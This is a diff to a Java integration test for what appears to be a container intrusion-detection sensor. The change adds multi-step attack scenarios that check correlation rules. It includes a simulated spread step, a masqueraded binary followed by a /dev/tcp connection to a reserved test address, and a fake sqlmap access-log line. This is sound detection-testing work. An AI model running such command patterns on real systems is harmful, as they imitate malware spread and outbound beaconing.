@@ -8,6 +8,7 @@ import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import io.leukocyte.events.Alert;
 import io.leukocyte.events.Priority;
+import io.leukocyte.rules.Correlation;
 import io.leukocyte.rules.Rule;
 import io.leukocyte.rules.RuleFile;
 import io.leukocyte.rules.RuleSet;
@@ -32,7 +33,8 @@ import org.junit.jupiter.api.io.TempDir;
 
 /**
  * The shipped rules against real programs in real containers, seen by the real sensor: work that
- * they must be quiet about, then the attacks of {@code catalogue.sh} and of the engine's side.
+ * they must be quiet about, then the attacks of {@code catalogue.sh}, those of several steps of
+ * {@code chains.sh}, and of the engine's side.
  */
 class ShippedRulesIT {
   private static final String BENIGN = "rules-it-work-";
@@ -43,10 +45,17 @@ class ShippedRulesIT {
   private static final Duration SOON = Duration.ofSeconds(20);
   private static final long MINUTE = TimeUnit.MINUTES.toNanos(1);
   private static final Path SCRIPT = Path.of("src/test/resources/catalogue.sh").toAbsolutePath();
+  private static final Path CHAINS = Path.of("src/test/resources/chains.sh").toAbsolutePath();
+  private static final String CHAIN = ATTACK + "chain";
+  private static final String NETWORK = "rules-it-net";
 
   /** What would take a sensor that does not work, or harm the machine. */
   private static final Set<String> NOT_HERE =
       Set.of("Processor kept busy", "Very many processes in a container");
+
+  /** What would take a gibibyte, or a name server that answers. */
+  private static final Set<String> NO_CHAIN_HERE =
+      Set.of("Very much sent to one address", "Much received in answers of name servers");
 
   /** An engine that runs in a container itself may not start such containers. */
   private static final String PRIVILEGED = "Privileged container started";
@@ -97,8 +106,10 @@ class ShippedRulesIT {
       attack(host);
       await()
           .atMost(SOON)
-          .untilAsserted(
-              () -> assertThat(rules(host.alertsOf(""))).containsAll(raisedHere().keySet()));
+          .untilAsserted(() ->
+              assertThat(rules(host.alertsOf("")))
+                  .containsAll(raisedHere().keySet())
+                  .containsAll(chains()));
     }
     alerts = host.alerts();
   }
@@ -112,6 +123,7 @@ class ShippedRulesIT {
       command.addAll(names.lines().toList());
       docker(command.toArray(String[]::new));
     }
+    docker("network", "rm", NETWORK);
   }
 
   // ---- what is done ----
@@ -155,6 +167,7 @@ class ShippedRulesIT {
   }
 
   private static void attack(WatchedHost host) throws IOException, InterruptedException {
+    beginChains();
     docker(
         "run",
         "-d",
@@ -172,17 +185,51 @@ class ShippedRulesIT {
         "sleep",
         "100");
     String pid = docker("inspect", "-f", "{{.State.Pid}}", VICTIM).strip();
-    for (String address : List.of("203.0.113.9", "169.254.169.254", "10.0.0.9")) {
+    for (String address : List.of("203.0.113.9", "203.0.113.10", "169.254.169.254", "10.0.0.9")) {
       run("nsenter", "-t", pid, "-n", "ip", "addr", "add", address + "/32", "dev", "lo");
     }
     docker("exec", VICTIM, "sh", "/catalogue.sh");
     docker("exec", "-t", VICTIM, "bash", "-c", "true");
+    endChains();
     Path file = Files.writeString(folder.resolve("file"), "x");
     docker("cp", file.toString(), VICTIM + ":/srv/file");
     docker("cp", VICTIM + ":/etc/hostname", folder.resolve("hostname").toString());
     open();
     fail();
     await().atMost(SOON).until(() -> rules(host.alertsOf(ATTACK)).contains("Container unhealthy"));
+  }
+
+  /** A container in which an attack goes on while others are attacked, and a third one. */
+  private static void beginChains() {
+    docker("network", "create", "--internal", "--subnet", "198.51.100.0/24", NETWORK);
+    docker(
+        "run",
+        "-d",
+        "--name",
+        CHAIN,
+        "--network",
+        NETWORK,
+        "-v",
+        CHAINS + ":/chains.sh:ro",
+        DEBIAN,
+        "sh",
+        "/chains.sh");
+    start(ATTACK + "third", new String[0], DEBIAN, "sleep", "100");
+    for (String name : List.of(CHAIN, ATTACK + "third")) {
+      String pid = docker("inspect", "-f", "{{.State.Pid}}", name).strip();
+      run("nsenter", "-t", pid, "-n", "ip", "addr", "add", "203.0.113.9/32", "dev", "lo");
+    }
+    docker("exec", CHAIN, "touch", "/tmp/go");
+  }
+
+  /** The steps that come from outside, and those of the third container. */
+  private static void endChains() throws IOException {
+    docker("exec", "-t", CHAIN, "bash", "-c", "true");
+    Path file = Files.writeString(folder.resolve("copied"), "x");
+    docker("cp", file.toString(), CHAIN + ":/srv/copied");
+    String spread =
+        "cp /bin/true /opt/update; /opt/update; echo > /dev/tcp/203.0.113.9/443 2> /dev/null";
+    docker("exec", "-t", ATTACK + "third", "bash", "-c", spread);
   }
 
   /** Containers that are open from their start. */
@@ -225,6 +272,16 @@ class ShippedRulesIT {
         "run",
         "-d",
         "--name",
+        ATTACK + "scan",
+        "--network",
+        "none",
+        "busybox:latest",
+        "echo",
+        "203.0.113.9 - - [28/Nov/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.8\"");
+    docker(
+        "run",
+        "-d",
+        "--name",
         WAF,
         "--network",
         "none",
@@ -242,11 +299,12 @@ class ShippedRulesIT {
         "busybox:latest",
         "sleep",
         "100");
-    start(ATTACK + "crash", new String[0], DEBIAN, "sh", "-c", "perl -e 'kill 11, $$'; exit $?");
+    String[] thrice = {"--restart", "on-failure:2"};
+    start(ATTACK + "crash", thrice, DEBIAN, "sh", "-c", "perl -e 'kill 11, $$'; exit $?");
     start(ATTACK + "error", new String[0], DEBIAN, "sh", "-c", "exit 3");
     start(
         ATTACK + "memory",
-        new String[] {"-m", "12m", "--memory-swap", "12m"},
+        new String[] {"-m", "12m", "--memory-swap", "12m", "--restart", "on-failure:2"},
         DEBIAN,
         "perl",
         "-e",
@@ -297,6 +355,7 @@ class ShippedRulesIT {
     expected.put("Terminal of a container taken from outside", ATTACK + "open");
     expected.put("First program with capabilities of the host", ATTACK + "capable");
     expected.put("Web attack in a log line", ATTACK + "log");
+    expected.put("Scanner in an access log", ATTACK + "scan");
     expected.put("Attack blocked by a WAF", WAF);
     expected.put("Attack seen by a WAF", WAF);
     expected.put("Container unhealthy", ATTACK + "sick");
@@ -318,8 +377,20 @@ class ShippedRulesIT {
 
   /** The rules that the script names. */
   static List<String> catalogue() {
+    return named(SCRIPT);
+  }
+
+  /** The correlations that are raised. */
+  static Set<String> chains() {
+    Set<String> chains = new TreeSet<>(named(CHAINS));
+    chains.add("Container keeps crashing");
+    chains.add("Container keeps running out of memory");
+    return chains;
+  }
+
+  private static List<String> named(Path script) {
     try {
-      return Files.readAllLines(SCRIPT).stream()
+      return Files.readAllLines(script).stream()
           .filter(line -> line.startsWith("#: "))
           .map(line -> line.substring(3))
           .toList();
@@ -385,6 +456,31 @@ class ShippedRulesIT {
     shipped.removeAll(NOT_HERE);
 
     assertThat(expected().keySet()).containsExactlyElementsOf(shipped);
+  }
+
+  @Test
+  void noCorrelationIsLeftOut() {
+    RuleSet shipped = RuleSet.load(RuleFile.shipped()).rules();
+    Set<String> alerting = new TreeSet<>();
+    for (Correlation correlation : shipped.correlations()) {
+      if (shipped.alerts(correlation.name())) {
+        alerting.add(correlation.name());
+      }
+    }
+    alerting.removeAll(NO_CHAIN_HERE);
+    assertThat(chains()).containsExactlyElementsOf(alerting);
+  }
+
+  @Test
+  void attackOfSeveralStepsRaisesItsCorrelationOnce() {
+    Map<String, Integer> raised = new TreeMap<>();
+    for (Alert alert : alerts) {
+      if (alert.correlation() != null) {
+        String group = alert.rule().name() + " " + alert.groupBy();
+        assertThat(raised.merge(group, 1, Integer::sum)).as(told(alert)).isEqualTo(1);
+      }
+    }
+    assertThat(rules(alerts)).containsAll(chains());
   }
 
   @Test
